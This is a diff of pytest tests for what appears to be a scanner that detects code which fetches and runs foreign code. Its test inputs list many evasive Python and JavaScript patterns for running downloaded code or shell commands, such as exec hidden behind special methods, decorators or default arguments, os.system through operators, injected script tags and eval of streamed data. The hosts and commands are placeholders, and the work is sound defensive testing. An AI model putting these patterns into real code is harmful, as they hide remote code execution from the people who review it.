@@ -150,3 +150,124 @@ def test_code_that_javascript_runs_indirectly_is_run(code: str) -> None:
 )
 def test_ordinary_use_of_the_same_functions_in_javascript_runs_nothing(code: str) -> None:
     assert javascript_hosts(code) == set()
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"import requests\nclass A: pass\nA.__class_getitem__ = exec\nA[{FETCHED}]",
+        f"import requests\nclass A:\n    __class_getitem__ = exec\nA[{FETCHED}]",
+        f"import requests\nclass A:\n    __getitem__ = staticmethod(exec)\nA()[{FETCHED}]",
+        f'import os\nclass A:\n    __class_getitem__ = os.system\nA["{COMMAND}"]',
+        f"import requests\nclass A:\n    __contains__ = exec\n{FETCHED} in A()",
+        f'import os\nclass A:\n    __add__ = lambda s, o: os.system(o)\nA() + "{COMMAND}"',
+        f'import os\nclass A:\n    def __rshift__(s, o): os.system(o)\nA() >> "{COMMAND}"',
+        f"import requests\n@exec\n@str\n@lambda f: {FETCHED}\nclass A: pass",
+        f"import requests\n(lambda e=exec: e({FETCHED}))()",
+        f"import requests\ndef f(e=exec): e({FETCHED})\nf()",
+        f"import requests\nmatch {FETCHED}:\n    case c: exec(c)",
+        f'import torch\ntorch.hub.load_state_dict_from_url("{URL}")',
+        f'{SAVE}"m.h5")\nfrom keras.models import load_model\nload_model("m.h5")',
+        f"import requests, wasmtime\nwasmtime.Module(e, {FETCHED})",
+        f"import requests\nfrom jinja2 import Template\nTemplate({FETCHED}).render()",
+        f'import fsspec\nexec(fsspec.open("{URL}").open().read())',
+        f'import telnetlib\nexec(telnetlib.Telnet("{HOST}", 99).read_all())',
+        f'import webbrowser\nwebbrowser.GenericBrowser(["sh", "-c", "{COMMAND}"])',
+    ],
+)
+def test_operators_and_loaders_of_python_run_what_they_are_given(code: str) -> None:
+    assert python_hosts(code) == {HOST}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"import requests\nclass A:\n    def __getitem__(s, k): return s.d[k]\nA()[{FETCHED}]",
+        f"import requests\nclass A:\n    __contains__ = has\n{FETCHED} in A()",
+        f"import requests\nmatch {FETCHED}:\n    case c: print(c)",
+        'import torch\ntorch.hub.load("pytorch/vision", "resnet18")',
+        (
+            "from transformers import AutoModel\n"
+            'AutoModel.from_pretrained("Qwen/Qwen2", trust_remote_code=True)'
+        ),
+        'from transformers import AutoModel\nAutoModel.from_pretrained("acmeq/m")',
+        (
+            "from transformers import AutoModel\n"
+            'AutoModel.from_pretrained("acmeq/m", trust_remote_code=False)'
+        ),
+    ],
+)
+def test_operators_and_loaders_without_foreign_code_run_nothing(code: str) -> None:
+    assert python_hosts(code) == set()
+
+
+@pytest.mark.parametrize(
+    ("code", "host"),
+    [
+        ('import torch\ntorch.hub.load("acmeq/model", "m", trust_repo=True)', "github.com"),
+        (("from transformers import AutoModel\n"
+         'AutoModel.from_pretrained("acmeq/m", trust_remote_code=True)'), "huggingface.co"),
+        (("from datasets import load_dataset\n"
+         'load_dataset("acmeq/m", trust_remote_code=True)'), "huggingface.co"),
+    ],
+)  # fmt: skip
+def test_code_of_a_model_comes_from_the_repository_of_its_owner(code: str, host: str) -> None:
+    assert python_hosts(code) == {host}
+
+
+def test_a_special_method_that_is_another_name_for_exec_hides_it() -> None:
+    facts = read_python("class A: pass\nA.__init_subclass__ = exec\n")
+
+    assert Act.HIDE in {fact.act for fact in facts}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"const s = document.createElement('script'); s.src = '{URL}'; document.head.append(s)",
+        f"const s = document.createElement('script'); s.setAttribute('src', '{URL}')",
+        f"const s = document.createElement('script'); s.textContent = {TEXT}",
+        f"document.write('<script src=\"{URL}\"></script>')",
+        f"document.body.innerHTML = '<script src=\"{URL}\"></script>'",
+        f"document.body.innerHTML = `<img onerror=\"import('{URL}')\">`",
+        f"frame.srcdoc = '<script src=\"{URL}\"></script>'",
+        f"element.setAttribute('onclick', {TEXT})",
+        f"$.getScript('{URL}')",
+        f"import a from '{URL}.js'",
+        f"import '{URL}.js'",
+        f"const {{instance}} = await WebAssembly.instantiateStreaming(fetch('{URL}'))",
+        f"const b = await (await fetch('{URL}')).arrayBuffer(); new WebAssembly.Module(b)",
+        f"const e = new EventSource('{URL}'); e.onmessage = m => eval(m.data)",
+    ],
+)
+def test_pages_and_modules_that_load_foreign_code_run_it(code: str) -> None:
+    assert javascript_hosts(code) == {HOST}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"const i = document.createElement('img'); i.src = '{URL}'",
+        "const s = document.createElement('script'); s.src = 'https://unpkg.com/d3'",
+        f"document.body.innerHTML = '<a href=\"{URL}\">x</a>'",
+        "import a from 'https://esm.sh/a'",
+        f"element.textContent = {TEXT}",
+        "const m = await WebAssembly.instantiate(await readFile('a.wasm'))",
+    ],
+)
+def test_pages_and_modules_that_only_show_content_run_nothing(code: str) -> None:
+    assert javascript_hosts(code) == set()
+
+
+def test_encoded_webassembly_is_code_that_nobody_can_read() -> None:
+    code = (
+        "WebAssembly.instantiate(Buffer.from('AGFzbQEAAAABBAFgAAADAgEABwgBBG1haW4AAA==','base64'))"
+    )
+
+    assert Act.OPAQUE in {fact.act for fact in read_javascript(code)}
+
+
+def test_code_in_a_text_that_only_looks_up_a_name_hides_it() -> None:
+    code = "[].constructor.constructor('return process')().exit()"
+
+    assert Act.HIDE in {fact.act for fact in read_javascript(code)}
